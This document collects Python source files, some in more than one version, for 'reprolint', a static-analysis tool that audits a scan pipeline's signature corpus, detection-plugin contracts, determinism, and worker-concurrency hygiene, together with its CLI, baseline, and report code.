                        self._dispatch_targets(info, method, cls)
                    )
            for fn in info.functions.values():
                entries.extend(self._dispatch_targets(info, fn, None))
        return entries

    def _dispatch_targets(
        self, info: ModuleInfo, fn: FunctionInfo, cls: ClassInfo | None
    ) -> list[tuple[FunctionInfo, str | None]]:
        found: list[tuple[FunctionInfo, str | None]] = []
        for node in ast.walk(fn.node):
            if not (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in POOL_DISPATCH_METHODS
                and node.args
            ):
                continue
            target = node.args[0]
            if (
                isinstance(target, ast.Attribute)
                and isinstance(target.value, ast.Name)
                and target.value.id == "self"
                and cls is not None
            ):
                hit = self.resolve_method(cls, target.attr)
                if hit is not None:
                    found.append((hit, cls.qualname))
            elif isinstance(target, ast.Name):
                local = info.functions.get(target.id)
                if local is not None:
                    found.append((local, None))
        return found

    # -- pickle boundary -----------------------------------------------------

    def boundary_classes(self) -> dict[str, ClassInfo]:
        """Classes whose instances cross the process-pool pickle boundary.

        The union of the declared ``PICKLE_BOUNDARY_TYPES`` registries
        and every class implementing the transport ``fork`` protocol
        (forked transports travel inside the pickled shard runner),
        closed over subclassing.
        """
        roots: dict[str, ClassInfo] = {}
        for info in self.modules.values():
            for dotted in info.boundary_types:
                cls = self.classes.get(dotted)
                if cls is not None:
                    roots[cls.qualname] = cls
        for cls in self.classes.values():
            if FORK_METHOD in cls.methods:
                roots[cls.qualname] = cls
        # subclasses of a boundary class cross the boundary too
        for cls in self.classes.values():
            if cls.qualname in roots:
                continue
            if any(c.qualname in roots for c in self.mro(cls)[1:]):
                roots[cls.qualname] = cls
        return roots

    # -- reachability --------------------------------------------------------

    def worker_contexts(self) -> dict[tuple[str, str | None, bool], Context]:
        """Every (def, owner, shared) context reachable from workers."""
        seeds: list[tuple[FunctionInfo, str | None]] = []
        seeds.extend(self.registry_entry_points())
        seeds.extend(self.structural_entry_points())
        seeds.extend(self.dispatch_entry_points())
        contexts: dict[tuple[str, str | None, bool], Context] = {}
        queue: list[Context] = []

        def enqueue(fn: FunctionInfo, owner: str | None, shared: bool) -> None:
            key = (fn.key, owner, shared)
            if key not in contexts:
                ctx = Context(fn.key, owner, shared)
                contexts[key] = ctx
                queue.append(ctx)

        for fn, owner in seeds:
            enqueue(fn, owner, shared=True)
        while queue:
            ctx = queue.pop()
            fn = self._defs[ctx.fn_key]
            self._propagate(fn, ctx, enqueue)
        return contexts

    def function_of(self, ctx: Context) -> FunctionInfo:
        return self._defs[ctx.fn_key]

    def _propagate(self, fn: FunctionInfo, ctx: Context, enqueue) -> None:
        module = self.modules[fn.module]
        owner_cls = self.classes.get(ctx.owner) if ctx.owner else None
        for node in ast.walk(fn.node):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            if isinstance(func, ast.Name):
                self._propagate_name_call(module, func.id, enqueue)
            elif isinstance(func, ast.Attribute):
                self._propagate_attr_call(
                    module, owner_cls, ctx, func, enqueue
                )

    def _propagate_name_call(
        self, module: ModuleInfo, name: str, enqueue
    ) -> None:
        # plain function call: module-local def or imported def/class
        local = module.functions.get(name)
        if local is not None:
            enqueue(local, None, shared=False)
            return
        if name in module.classes:
            self._enqueue_constructor(module.classes[name], enqueue)
            return
        dotted = module.aliases.get(name)
        if dotted is None:
            return
        if dotted in self.functions:
            enqueue(self.functions[dotted], None, shared=False)
        elif dotted in self.classes:
            self._enqueue_constructor(self.classes[dotted], enqueue)

    def _enqueue_constructor(self, cls: ClassInfo, enqueue) -> None:
        # a freshly constructed object is private to its creator
        for dunder in ("__init__", "__post_init__"):
            fn = self.resolve_method(cls, dunder)
            if fn is not None:
                enqueue(fn, cls.qualname, shared=False)

    def _propagate_attr_call(
        self,
        module: ModuleInfo,
        owner_cls: ClassInfo | None,
        ctx: Context,
        func: ast.Attribute,
        enqueue,
    ) -> None:
        method = func.attr
        receiver = func.value
        # self.m(...): same object, same taint, resolved in the MRO
        if isinstance(receiver, ast.Name) and receiver.id == "self":
            if owner_cls is not None:
                target = self.resolve_method(owner_cls, method)
                if target is not None:
                    enqueue(target, owner_cls.qualname, ctx.shared)
                    return
            self._fan_out(method, ctx.shared, enqueue)
            return
        # Class.m(...) via an imported or local class name
        if isinstance(receiver, ast.Name):
            dotted = module.aliases.get(receiver.id)
            cls = (
                module.classes.get(receiver.id)
                or (self.classes.get(dotted) if dotted else None)
            )
            if cls is not None:
                target = self.resolve_method(cls, method)
                if target is not None:
                    enqueue(target, cls.qualname, shared=False)
                return
            self._fan_out(method, shared=False, enqueue=enqueue)
            return
        # self.field.m(...), self.a.b.m(...): a field of a shared object
        # is shared; any other chain is private or unknowable.
        root = receiver
        while isinstance(root, (ast.Attribute, ast.Subscript)):
            root = root.value
        rooted_in_self = isinstance(root, ast.Name) and root.id == "self"
        self._fan_out(method, ctx.shared and rooted_in_self, enqueue)

    def _fan_out(self, method: str, shared: bool, enqueue) -> None:
        for cls, fn in self.methods_by_name.get(method, ()):
            enqueue(fn, cls.qualname, shared)
