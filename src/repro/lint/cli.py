"""``python -m repro.lint`` — run every analyzer, report, gate on the baseline.

Exit codes: 0 = no findings outside the baseline, 1 = new findings (or
stale baseline entries under ``--fail-on-stale``), 2 = usage /
configuration error.  Analysis runs through the incremental
:class:`~repro.lint.engine.LintEngine` (content-hash cache, ``--jobs``
fan-out, ``--changed-only`` scoping); the report itself is a pure
function of the tree, so none of those knobs can change its bytes.
Lint health is also charged to the shared :mod:`repro.obs` telemetry
(one counter series per rule id), so ``--telemetry`` surfaces it in
the same formats as the scan funnel.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

from repro.lint.baseline import Baseline
from repro.lint.engine import DEFAULT_CACHE, LintEngine
from repro.lint.findings import Finding
from repro.lint.report import render_json, render_text, rule_catalog

#: the committed suppression file, looked up relative to the CWD
DEFAULT_BASELINE = "reprolint-baseline.json"


def default_root() -> Path:
    """The installed ``repro`` package directory (``src/repro``)."""
    import repro

    return Path(repro.__file__).resolve().parent


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.lint",
        description="Audit the signature corpus, plugin contracts, "
                    "determinism invariants, and worker-concurrency / "
                    "pickle-boundary hygiene.",
    )
    parser.add_argument("--root", type=Path, default=None,
                        help="repro package directory to audit "
                             "(default: the installed package)")
    parser.add_argument("--format", choices=("text", "json"), default="text")
    parser.add_argument("--out", type=Path, default=None,
                        help="write the report to this file instead of stdout")
    parser.add_argument("--baseline", type=Path, default=Path(DEFAULT_BASELINE),
                        help=f"baseline file (default: ./{DEFAULT_BASELINE}; "
                             "missing file = empty baseline)")
    parser.add_argument("--update-baseline", action="store_true",
                        help="accept the current findings into the baseline "
                             "and exit 0")
    parser.add_argument("--fail-on-stale", action="store_true",
                        help="exit 1 if the baseline carries fingerprints "
                             "that no longer fire")
    parser.add_argument("--no-corpus", action="store_true",
                        help="skip the canned-page recall/precision checks "
                             "(shape-only signature audit)")
    parser.add_argument("--jobs", type=int, default=1, metavar="N",
                        help="run lint work units on N threads (default: 1; "
                             "the report is byte-identical for any N)")
    parser.add_argument("--cache", type=Path, default=Path(DEFAULT_CACHE),
                        help="incremental cache file "
                             f"(default: ./{DEFAULT_CACHE})")
    parser.add_argument("--no-cache", action="store_true",
                        help="ignore and do not write the incremental cache")
    parser.add_argument("--changed-only", action="store_true",
                        help="only analyze and report files whose content "
                             "hash differs from the cache manifest "
                             "(whole-tree rules still re-run if anything "
                             "changed)")
    parser.add_argument("--stats-out", type=Path, default=None,
                        help="write engine timing / cache statistics as JSON "
                             "to this file (the CI artifact)")
    parser.add_argument("--rules", action="store_true",
                        help="print the rule catalog and exit")
    parser.add_argument("--telemetry", choices=("jsonl", "prometheus"),
                        default=None,
                        help="append the lint run's telemetry in this format")
    parser.add_argument("--telemetry-out", type=Path, default=None,
                        help="write the telemetry dump to this file")
    return parser


def run_analyzers(root: Path, with_corpus: bool = True) -> list[Finding]:
    """All findings for one tree, in canonical order (no cache, one job)."""
    return LintEngine(
        root, with_corpus=with_corpus, cache_path=None,
    ).run().findings


def _record_telemetry(telemetry, findings: list[Finding], new: list[Finding]) -> None:
    telemetry.metrics.counter("lint_runs_total").inc()
    for finding in findings:
        telemetry.metrics.counter("lint_findings_total", rule=finding.rule).inc()
    telemetry.metrics.counter("lint_new_findings_total").inc(len(new))
    telemetry.events.info(
        "lint", "run-complete", findings=len(findings), new=len(new),
    )


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    if args.rules:
        sys.stdout.write(rule_catalog())
        return 0

    root = (args.root or default_root()).resolve()
    if not root.is_dir():
        print(f"error: not a directory: {root}", file=sys.stderr)
        return 2
    if args.jobs < 1:
        print("error: --jobs must be at least 1", file=sys.stderr)
        return 2
    if args.changed_only and args.update_baseline:
        print("error: --changed-only cannot update the baseline "
              "(it sees only part of the tree)", file=sys.stderr)
        return 2

    engine = LintEngine(
        root,
        with_corpus=not args.no_corpus,
        jobs=args.jobs,
        cache_path=None if args.no_cache else args.cache,
        changed_only=args.changed_only,
    )
    result = engine.run()
    findings = result.findings

    if args.stats_out is not None:
        args.stats_out.write_text(
            json.dumps(result.stats.to_dict(), indent=2, sort_keys=True) + "\n"
        )

    try:
        baseline = Baseline.load(args.baseline)
    except ValueError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2

    if args.update_baseline:
        Baseline.from_findings(findings).save(args.baseline)
        print(f"baseline written to {args.baseline} "
              f"({len(findings)} fingerprint(s))")
        return 0

    new = baseline.new_findings(findings)
    # A --changed-only run sees a slice of the tree, so absent findings
    # say nothing about fixed debt: stale detection needs the full walk.
    stale = (
        [] if args.changed_only else baseline.stale_fingerprints(findings)
    )

    from repro.obs.telemetry import Telemetry

    telemetry = Telemetry()
    _record_telemetry(telemetry, findings, new)

    report = (
        render_json(findings, new, stale)
        if args.format == "json"
        else render_text(findings, new, stale)
    )
    if args.out is not None:
        args.out.write_text(report)
        print(f"report written to {args.out}")
    else:
        sys.stdout.write(report)

    if args.telemetry is not None:
        dump = telemetry.export(args.telemetry)
        if args.telemetry_out is not None:
            args.telemetry_out.write_text(dump)
            print(f"telemetry written to {args.telemetry_out}")
        else:
            sys.stdout.write(dump)

    if new:
        return 1
    if stale and args.fail_on_stale:
        return 1
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
