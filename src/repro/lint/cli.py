"""``python -m repro.lint`` — run every analyzer, report, gate on the baseline.

Exit codes: 0 = no findings outside the baseline, 1 = new findings,
2 = usage / configuration error.  Lint health is also charged to the
shared :mod:`repro.obs` telemetry (one counter series per rule id), so
``--telemetry`` surfaces it in the same formats as the scan funnel.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from repro.lint.baseline import Baseline
from repro.lint.determinism import DeterminismAuditor
from repro.lint.findings import Finding, sort_findings
from repro.lint.observability import ObservabilityAuditor
from repro.lint.plugins import PluginContractAuditor
from repro.lint.report import render_json, render_text, rule_catalog
from repro.lint.signatures import SignatureAuditor

#: the committed suppression file, looked up relative to the CWD
DEFAULT_BASELINE = "reprolint-baseline.json"


def default_root() -> Path:
    """The installed ``repro`` package directory (``src/repro``)."""
    import repro

    return Path(repro.__file__).resolve().parent


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.lint",
        description="Audit the signature corpus, plugin contracts, and "
                    "determinism invariants.",
    )
    parser.add_argument("--root", type=Path, default=None,
                        help="repro package directory to audit "
                             "(default: the installed package)")
    parser.add_argument("--format", choices=("text", "json"), default="text")
    parser.add_argument("--out", type=Path, default=None,
                        help="write the report to this file instead of stdout")
    parser.add_argument("--baseline", type=Path, default=Path(DEFAULT_BASELINE),
                        help=f"baseline file (default: ./{DEFAULT_BASELINE}; "
                             "missing file = empty baseline)")
    parser.add_argument("--update-baseline", action="store_true",
                        help="accept the current findings into the baseline "
                             "and exit 0")
    parser.add_argument("--no-corpus", action="store_true",
                        help="skip the canned-page recall/precision checks "
                             "(shape-only signature audit)")
    parser.add_argument("--rules", action="store_true",
                        help="print the rule catalog and exit")
    parser.add_argument("--telemetry", choices=("jsonl", "prometheus"),
                        default=None,
                        help="append the lint run's telemetry in this format")
    parser.add_argument("--telemetry-out", type=Path, default=None,
                        help="write the telemetry dump to this file")
    return parser


def run_analyzers(root: Path, with_corpus: bool = True) -> list[Finding]:
    """All findings for one tree, in canonical order."""
    corpus = None
    if with_corpus:
        from repro.lint.corpus import build_corpus

        corpus = build_corpus()
    from repro.apps.catalog import in_scope_apps

    known_slugs = frozenset(spec.slug for spec in in_scope_apps())
    findings: list[Finding] = []
    findings.extend(
        SignatureAuditor(root, corpus=corpus, known_slugs=known_slugs).run()
    )
    findings.extend(PluginContractAuditor(root, known_slugs=known_slugs).run())
    findings.extend(DeterminismAuditor(root).run())
    findings.extend(ObservabilityAuditor(root).run())
    return sort_findings(findings)


def _record_telemetry(telemetry, findings: list[Finding], new: list[Finding]) -> None:
    telemetry.metrics.counter("lint_runs_total").inc()
    for finding in findings:
        telemetry.metrics.counter("lint_findings_total", rule=finding.rule).inc()
    telemetry.metrics.counter("lint_new_findings_total").inc(len(new))
    telemetry.events.info(
        "lint", "run-complete", findings=len(findings), new=len(new),
    )


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    if args.rules:
        sys.stdout.write(rule_catalog())
        return 0

    root = (args.root or default_root()).resolve()
    if not root.is_dir():
        print(f"error: not a directory: {root}", file=sys.stderr)
        return 2

    findings = run_analyzers(root, with_corpus=not args.no_corpus)

    try:
        baseline = Baseline.load(args.baseline)
    except ValueError as error:
        print(f"error: {error}", file=sys.stderr)
        return 2

    if args.update_baseline:
        Baseline.from_findings(findings).save(args.baseline)
        print(f"baseline written to {args.baseline} "
              f"({len(findings)} fingerprint(s))")
        return 0

    new = baseline.new_findings(findings)

    from repro.obs.telemetry import Telemetry

    telemetry = Telemetry()
    _record_telemetry(telemetry, findings, new)

    report = (
        render_json(findings, new)
        if args.format == "json"
        else render_text(findings, new)
    )
    if args.out is not None:
        args.out.write_text(report)
        print(f"report written to {args.out}")
    else:
        sys.stdout.write(report)

    if args.telemetry is not None:
        dump = telemetry.export(args.telemetry)
        if args.telemetry_out is not None:
            args.telemetry_out.write_text(dump)
            print(f"telemetry written to {args.telemetry_out}")
        else:
            sys.stdout.write(dump)

    stale = baseline.stale_fingerprints(findings)
    if stale and args.format == "text" and args.out is None:
        print(f"note: {len(stale)} baseline entr(y/ies) no longer fire; "
              "run --update-baseline to shrink the baseline.")
    return 1 if new else 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
