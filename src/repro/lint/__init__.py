"""reprolint: static analysis for the reproduction's own invariants.

The scan pipeline rests on three hand-maintained artifact families that
nothing used to check mechanically:

* the 90-regex **signature corpus** in :mod:`repro.core.prefilter`
  (stage II lives or dies on its precision and recall);
* the 18 **Tsunami plugins** in :mod:`repro.core.tsunami.plugins`
  (stage III's correctness rests on their API contract);
* the **determinism invariant** — byte-identical replay and resume —
  which a single stray ``time.time()`` or unordered ``set`` walk would
  silently break.

Three analyzers turn those into machine-checked properties, each
emitting structured :class:`~repro.lint.findings.Finding` records:

* :class:`~repro.lint.signatures.SignatureAuditor` (``SIG*`` rules)
* :class:`~repro.lint.plugins.PluginContractAuditor` (``PLG*`` rules)
* :class:`~repro.lint.determinism.DeterminismAuditor` (``DET*`` rules)

``python -m repro.lint`` runs all three; a committed baseline file lets
CI fail only on *new* findings.
"""

from repro.lint.baseline import Baseline
from repro.lint.determinism import DeterminismAuditor
from repro.lint.findings import RULES, Finding, Severity
from repro.lint.plugins import PluginContractAuditor
from repro.lint.signatures import SignatureAuditor

__all__ = [
    "Baseline",
    "DeterminismAuditor",
    "Finding",
    "PluginContractAuditor",
    "RULES",
    "Severity",
    "SignatureAuditor",
]
