"""reprolint: static analysis for the reproduction's own invariants.

The scan pipeline rests on hand-maintained artifact families and
runtime disciplines that nothing used to check mechanically:

* the 90-regex **signature corpus** in :mod:`repro.core.prefilter`
  (stage II lives or dies on its precision and recall);
* the 18 **Tsunami plugins** in :mod:`repro.core.tsunami.plugins`
  (stage III's correctness rests on their API contract);
* the **determinism invariant** — byte-identical replay and resume —
  which a single stray ``time.time()`` or unordered ``set`` walk would
  silently break;
* the **worker boundary** — code reachable inside pool workers may not
  write shared state, and objects pickled into process workers must
  actually survive pickling (the three bugs the process pool found at
  runtime in PR 7, now caught statically).

Five analyzers turn those into machine-checked properties, each
emitting structured :class:`~repro.lint.findings.Finding` records:

* :class:`~repro.lint.signatures.SignatureAuditor` (``SIG*`` rules)
* :class:`~repro.lint.plugins.PluginContractAuditor` (``PLG*`` rules)
* :class:`~repro.lint.determinism.DeterminismAuditor` (``DET*`` rules)
* :class:`~repro.lint.observability.ObservabilityAuditor` (``OBS*``)
* :class:`~repro.lint.concurrency.ConcurrencyAuditor` (``RACE*`` /
  ``PKL*`` rules, on the whole-program
  :class:`~repro.lint.callgraph.CallGraph`)

``python -m repro.lint`` runs them all through the incremental
:class:`~repro.lint.engine.LintEngine` (content-hash cache, ``--jobs``
fan-out); a committed baseline file lets CI fail only on *new*
findings.
"""

from repro.lint.baseline import Baseline
from repro.lint.callgraph import CallGraph
from repro.lint.concurrency import ConcurrencyAuditor
from repro.lint.determinism import DeterminismAuditor
from repro.lint.engine import LintEngine
from repro.lint.findings import RULES, Finding, Severity
from repro.lint.observability import ObservabilityAuditor
from repro.lint.plugins import PluginContractAuditor
from repro.lint.signatures import SignatureAuditor

__all__ = [
    "Baseline",
    "CallGraph",
    "ConcurrencyAuditor",
    "DeterminismAuditor",
    "Finding",
    "LintEngine",
    "ObservabilityAuditor",
    "PluginContractAuditor",
    "RULES",
    "Severity",
    "SignatureAuditor",
]
