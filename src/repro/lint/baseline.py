"""Baseline / suppression file: CI fails only on *new* findings.

The baseline records finding *fingerprints* (rule + path + message,
deliberately excluding line numbers so unrelated edits above a finding
do not churn it).  ``python -m repro.lint --update-baseline`` rewrites
the committed file; a finding disappears from the baseline the moment
it is fixed, so the debt can only shrink silently, never grow.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

from repro.lint.findings import Finding

#: bumped if the fingerprint scheme ever changes incompatibly
BASELINE_VERSION = 1


@dataclass(frozen=True)
class Baseline:
    """An accepted set of finding fingerprints."""

    fingerprints: frozenset[str] = field(default_factory=frozenset)

    @classmethod
    def load(cls, path: Path) -> "Baseline":
        """Read a baseline file; a missing file is an empty baseline."""
        try:
            text = Path(path).read_text()
        except FileNotFoundError:
            return cls()
        try:
            payload = json.loads(text)
        except ValueError as error:
            raise ValueError(f"malformed baseline file {path}: {error}")
        if not isinstance(payload, dict):
            raise ValueError(
                f"malformed baseline file {path}: expected an object, "
                f"got {type(payload).__name__}"
            )
        if payload.get("version") != BASELINE_VERSION:
            raise ValueError(
                f"unsupported baseline version in {path}: "
                f"{payload.get('version')!r}"
            )
        fingerprints = payload.get("fingerprints", ())
        if not isinstance(fingerprints, list) or any(
            not isinstance(fp, str) for fp in fingerprints
        ):
            raise ValueError(
                f"malformed baseline file {path}: 'fingerprints' must be "
                "a list of strings"
            )
        return cls(frozenset(fingerprints))

    @classmethod
    def from_findings(cls, findings: list[Finding]) -> "Baseline":
        return cls(frozenset(f.fingerprint() for f in findings))

    def save(self, path: Path) -> None:
        payload = {
            "version": BASELINE_VERSION,
            "fingerprints": sorted(self.fingerprints),
        }
        Path(path).write_text(json.dumps(payload, indent=2) + "\n")

    def new_findings(self, findings: list[Finding]) -> list[Finding]:
        """Findings not excused by this baseline, in report order."""
        return [f for f in findings if f.fingerprint() not in self.fingerprints]

    def stale_fingerprints(self, findings: list[Finding]) -> list[str]:
        """Baseline entries whose finding no longer exists (fixed debt)."""
        current = {f.fingerprint() for f in findings}
        return sorted(self.fingerprints - current)
