"""Plugin-contract auditor (``PLG*`` rules).

Stage III trusts the 18 detection plugins to be *safe measurement
instruments*: subclasses of :class:`MavDetectionPlugin` that identify a
catalog application, are reachable through ``ALL_PLUGINS``, talk to
targets only through ``PluginContext.fetch``/``fetch_json``, swallow no
unexpected exceptions, and never mutate server state.  This AST pass
verifies all of that over ``core/tsunami/plugins/*.py`` without
importing the modules, so broken or hostile fixture trees lint safely.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from pathlib import Path

from repro.lint.findings import Finding

#: modules whose import in a plugin means transport-layer bypass
_FORBIDDEN_IMPORTS = (
    "socket",
    "ssl",
    "http.client",
    "urllib",
    "requests",
    "repro.net.transport",
    "repro.net.http",
)

#: attribute names whose access means transport-layer bypass
_FORBIDDEN_ATTRIBUTES = frozenset({"transport"})

#: method names whose *call* means a state-changing request
_MUTATING_CALLS = frozenset({"post", "put", "delete", "patch", "request"})

_BASE_CLASS = "MavDetectionPlugin"


@dataclass
class _PluginClass:
    name: str
    line: int
    bases: tuple[str, ...]
    slug: str | None
    slug_line: int
    has_detect: bool

    @property
    def is_abstract_helper(self) -> bool:
        return self.name.startswith("_")


@dataclass
class _Module:
    rel: str
    classes: list[_PluginClass] = field(default_factory=list)
    findings: list[Finding] = field(default_factory=list)


def _class_info(node: ast.ClassDef) -> _PluginClass:
    bases = tuple(
        base.id if isinstance(base, ast.Name) else
        base.attr if isinstance(base, ast.Attribute) else ""
        for base in node.bases
    )
    slug: str | None = None
    slug_line = node.lineno
    has_detect = False
    for statement in node.body:
        if isinstance(statement, ast.Assign):
            names = {t.id for t in statement.targets if isinstance(t, ast.Name)}
            if "slug" in names and isinstance(statement.value, ast.Constant):
                slug = str(statement.value.value)
                slug_line = statement.lineno
        if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef)):
            if statement.name == "detect":
                has_detect = True
    return _PluginClass(node.name, node.lineno, bases, slug, slug_line, has_detect)


def extract_registered_names(init_path: Path) -> frozenset[str] | None:
    """Class names instantiated in ``ALL_PLUGINS`` — statically.

    Returns ``None`` when the registry cannot be located, in which case
    the registration check is skipped (minimal fixture trees).
    """
    try:
        tree = ast.parse(init_path.read_text(), filename=str(init_path))
    except (OSError, SyntaxError):
        return None
    for node in ast.walk(tree):
        if not isinstance(node, (ast.Assign, ast.AnnAssign)):
            continue
        targets = node.targets if isinstance(node, ast.Assign) else [node.target]
        if not any(isinstance(t, ast.Name) and t.id == "ALL_PLUGINS" for t in targets):
            continue
        value = node.value
        if not isinstance(value, (ast.Tuple, ast.List)):
            return None
        names = set()
        for element in value.elts:
            if isinstance(element, ast.Call) and isinstance(element.func, ast.Name):
                names.add(element.func.id)
        return frozenset(names)
    return None


class PluginContractAuditor:
    """Audit ``<root>/core/tsunami/plugins`` against the plugin API contract.

    ``known_slugs`` are the catalog's in-scope slugs and
    ``signature_slugs`` the prefilter corpus keys; both default to the
    installed package's values and may be overridden for fixture trees.
    """

    def __init__(
        self,
        root: Path,
        known_slugs: frozenset[str] | None = None,
        signature_slugs: frozenset[str] | None = None,
    ) -> None:
        self.root = Path(root)
        if known_slugs is None:
            from repro.apps.catalog import in_scope_apps

            known_slugs = frozenset(spec.slug for spec in in_scope_apps())
        if signature_slugs is None:
            from repro.core.prefilter import SIGNATURES

            signature_slugs = frozenset(SIGNATURES)
        self.known_slugs = known_slugs
        self.signature_slugs = signature_slugs

    @property
    def plugins_dir(self) -> Path:
        return self.root / "core" / "tsunami" / "plugins"

    def _rel(self, path: Path) -> str:
        return (Path(self.root.name) / path.relative_to(self.root)).as_posix()

    def run(self) -> list[Finding]:
        directory = self.plugins_dir
        if not directory.is_dir():
            return [Finding(
                (Path(self.root.name) / "core" / "tsunami" / "plugins").as_posix(),
                0, "LNT001", "plugins directory missing",
            )]
        registered = extract_registered_names(directory / "__init__.py")
        modules: list[_Module] = []
        for path in sorted(directory.glob("*.py")):
            if path.name == "__init__.py":
                continue
            modules.append(self._audit_module(path))

        findings = [f for module in modules for f in module.findings]
        findings.extend(self._audit_registry(modules, registered))
        return findings

    def _audit_module(self, path: Path) -> _Module:
        module = _Module(rel=self._rel(path))
        try:
            tree = ast.parse(path.read_text(), filename=str(path))
        except (OSError, SyntaxError) as error:
            module.findings.append(
                Finding(module.rel, 0, "LNT001", f"cannot parse: {error}")
            )
            return module

        local_classes: dict[str, _PluginClass] = {}
        for node in ast.walk(tree):
            if isinstance(node, ast.ClassDef):
                info = _class_info(node)
                local_classes[info.name] = info
                module.classes.append(info)
            elif isinstance(node, (ast.Import, ast.ImportFrom)):
                module.findings.extend(self._audit_import(module.rel, node))
            elif isinstance(node, ast.Attribute):
                if node.attr in _FORBIDDEN_ATTRIBUTES:
                    module.findings.append(Finding(
                        module.rel, node.lineno, "PLG004",
                        f"direct .{node.attr} access bypasses "
                        "PluginContext.fetch/fetch_json",
                    ))
            elif isinstance(node, ast.ExceptHandler):
                if node.type is None:
                    module.findings.append(Finding(
                        module.rel, node.lineno, "PLG005",
                        "bare except hides transport bugs and typos alike",
                    ))
            elif isinstance(node, ast.Call):
                func = node.func
                if (
                    isinstance(func, ast.Attribute)
                    and func.attr in _MUTATING_CALLS
                ):
                    module.findings.append(Finding(
                        module.rel, node.lineno, "PLG006",
                        f".{func.attr}() is state-changing; detection must "
                        "be GET-only",
                    ))

        def subclasses_base(info: _PluginClass, seen: frozenset[str]) -> bool:
            if _BASE_CLASS in info.bases:
                return True
            return any(
                base in local_classes and base not in seen
                and subclasses_base(local_classes[base], seen | {base})
                for base in info.bases
            )

        for info in module.classes:
            plugin_shaped = info.name.endswith("Plugin") or info.has_detect
            if not plugin_shaped:
                continue
            if not subclasses_base(info, frozenset()):
                module.findings.append(Finding(
                    module.rel, info.line, "PLG001",
                    f"{info.name} does not subclass {_BASE_CLASS}",
                ))
                continue
            if info.is_abstract_helper:
                continue
            if info.slug is None:
                module.findings.append(Finding(
                    module.rel, info.line, "PLG002",
                    f"{info.name} declares no slug",
                ))
                continue
            if info.slug not in self.known_slugs:
                module.findings.append(Finding(
                    module.rel, info.slug_line, "PLG002",
                    f"{info.name} slug {info.slug!r} is not an in-scope "
                    "catalog app",
                ))
            if info.slug not in self.signature_slugs:
                module.findings.append(Finding(
                    module.rel, info.slug_line, "PLG002",
                    f"{info.name} slug {info.slug!r} has no stage-II "
                    "signatures, so stage III would never run it",
                ))
        return module

    def _audit_import(
        self, rel: str, node: ast.Import | ast.ImportFrom
    ) -> list[Finding]:
        names: list[str] = []
        if isinstance(node, ast.Import):
            names = [alias.name for alias in node.names]
        elif node.module is not None:
            names = [node.module]
        findings = []
        for name in names:
            if any(
                name == banned or name.startswith(banned + ".")
                for banned in _FORBIDDEN_IMPORTS
            ):
                findings.append(Finding(
                    rel, node.lineno, "PLG004",
                    f"import of {name!r} bypasses PluginContext helpers",
                ))
        return findings

    def _audit_registry(
        self, modules: list[_Module], registered: frozenset[str] | None
    ) -> list[Finding]:
        findings: list[Finding] = []
        slug_owners: dict[str, tuple[str, str, int]] = {}
        for module in modules:
            for info in module.classes:
                if info.is_abstract_helper or info.slug is None:
                    continue
                previous = slug_owners.get(info.slug)
                if previous is not None:
                    findings.append(Finding(
                        module.rel, info.slug_line, "PLG007",
                        f"slug {info.slug!r} already claimed by "
                        f"{previous[1]} ({previous[0]})",
                    ))
                else:
                    slug_owners[info.slug] = (module.rel, info.name, info.line)
                if registered is not None and info.name not in registered:
                    findings.append(Finding(
                        module.rel, info.line, "PLG003",
                        f"{info.name} is not registered in ALL_PLUGINS",
                    ))
        return findings
