"""Reporters: human-readable text and machine-readable JSON.

Both renderings are pure functions of the (sorted) findings list — no
timestamps, no host names, no absolute paths — so two consecutive runs
over the same tree produce byte-identical output.  That property is
itself asserted by the acceptance tests: a lint tool that polices
determinism had better be deterministic.
"""

from __future__ import annotations

import json

from repro.lint.findings import RULES, Finding


def render_json(
    findings: list[Finding],
    new: list[Finding],
    stale: list[str] = (),
) -> str:
    """The ``--format json`` report (also the CI artifact)."""
    new_fingerprints = {f.fingerprint() for f in new}
    counts: dict[str, int] = {}
    for finding in findings:
        counts[finding.rule] = counts.get(finding.rule, 0) + 1
    payload = {
        "version": 1,
        "findings": [
            {**f.to_dict(), "new": f.fingerprint() in new_fingerprints}
            for f in findings
        ],
        "counts_by_rule": {rule: counts[rule] for rule in sorted(counts)},
        "total": len(findings),
        "new": len(new),
        "stale_baseline_fingerprints": sorted(stale),
    }
    return json.dumps(payload, indent=2, sort_keys=True) + "\n"


def render_text(
    findings: list[Finding],
    new: list[Finding],
    stale: list[str] = (),
) -> str:
    """The ``--format text`` report."""
    lines = []
    if not findings:
        lines.append("reprolint: no findings.")
    else:
        new_fingerprints = {f.fingerprint() for f in new}
        for finding in findings:
            marker = (
                "" if finding.fingerprint() in new_fingerprints
                else " (baseline)"
            )
            lines.append(finding.render() + marker)
        lines.append("")
        lines.append(
            f"reprolint: {len(findings)} finding(s), {len(new)} new, "
            f"{len(findings) - len(new)} baselined."
        )
    for fingerprint in sorted(stale):
        lines.append(f"stale baseline entry (no longer fires): {fingerprint}")
    return "\n".join(lines) + "\n"


def rule_catalog() -> str:
    """The rule table (``--rules``), one ``id  severity  description`` row."""
    lines = ["rule     severity  description"]
    for rule in sorted(RULES):
        severity, description = RULES[rule]
        lines.append(f"{rule:<8} {severity.value:<9} {description}")
    return "\n".join(lines) + "\n"
