"""repro.obs — deterministic observability for the scan and honeypot runtimes.

Three pillars, all stamped from the :class:`~repro.util.clock.SimClock`
so two runs with the same seed produce *identical* telemetry:

* :mod:`repro.obs.events` — an append-only structured event log
  (JSONL-serialisable records with level/stage/host fields);
* :mod:`repro.obs.trace` — nested tracing spans
  (sweep → batch → stage → per-host plugin probe);
* :mod:`repro.obs.metrics` — a metrics registry of counters, gauges, and
  fixed-bucket histograms (stage funnel, per-plugin latency/verdicts,
